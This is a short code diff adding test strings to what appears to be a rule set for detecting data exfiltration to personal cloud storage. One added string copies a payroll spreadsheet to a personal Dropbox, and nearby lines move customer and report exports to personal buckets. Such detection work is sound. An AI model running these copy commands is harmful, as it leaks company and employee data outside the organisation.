@@ -1087,6 +1087,7 @@ RULES: tuple[Rule, ...] = (
             "aws s3 sync ./exports s3://team-exports --profile personal",
             "bq extract --destination_format CSV acme:crm.customers gs://jd-personal/c-*.csv",
             "rclone copy /data/exports gdrive-personal:work",
+            "rclone copy /srv/exports/payroll.xlsx mydropbox:Personal/",
             "gsutil cp -r /srv/reports gs://home-backup-jd/",
             "azcopy copy 'https://acme.blob.core.windows.net/crm/*' "
             "'https://jdpersonal.blob.core.windows.net/x' --recursive",
@@ -1096,6 +1097,7 @@ RULES: tuple[Rule, ...] = (
             "aws s3 sync ./exports s3://team-exports --profile prod",
             "bq extract acme:crm.customers gs://acme-warehouse-exports/c-*.csv",
             "rclone copy /data/exports s3-archive:work",
+            "rclone copy /data/exports mydata:work",
             "aws s3 ls s3://jd-personal-archive/",
             "gsutil cp gs://acme-homepage-assets/logo.png ./logo.png",
             "gsutil cp gs://jd-personal/notes.txt ./notes.txt",
